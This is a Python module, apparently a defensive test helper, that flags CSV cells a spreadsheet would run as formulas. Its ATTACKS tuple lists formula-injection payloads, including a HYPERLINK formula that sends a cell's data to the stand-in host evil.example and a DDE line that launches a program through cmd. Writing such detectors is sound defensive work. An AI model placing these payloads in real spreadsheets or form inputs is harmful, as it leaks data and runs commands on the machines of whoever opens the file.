"""A CSV as a spreadsheet opens it: which cells it would run as formulas.

Excel, LibreOffice and Google Sheets read a cell as a formula when its text
starts with = + - or @ (also after a tab, a carriage return or leading spaces,
and, with some input methods, their fullwidth forms), unless the text is a
plain number such as -12.50. A leading apostrophe makes the cell text.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from decimal import Decimal, InvalidOperation
from pathlib import Path

#: Names and addresses a stranger can type into the public form.
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&C2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=2+2",
    "  =3+3",
    "\uff1d4+4",
)
_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return text.strip() == text and bool(text)


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would run this cell's text."""
    if cell.startswith("'"):
        return False
    return cell.lstrip(" \t\r\n").startswith(_STARTS) and not is_number(cell)


def open_csv(data: str | Path) -> list[dict[str, str]]:
    text = data.read_text(encoding="utf-8") if isinstance(data, Path) else data
    return list(csv.DictReader(io.StringIO(text, newline="")))


def live_formulas(rows: list[dict[str, str]]) -> list[tuple[str, str]]:
    return [(k, v) for row in rows for k, v in row.items() if runs_as_formula(v)]


def as_typed(cell: str) -> str:
    """The cell without the apostrophe that neutralised it: the text as the kit kept it."""
    return cell[1:] if cell.startswith("'") else cell


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)
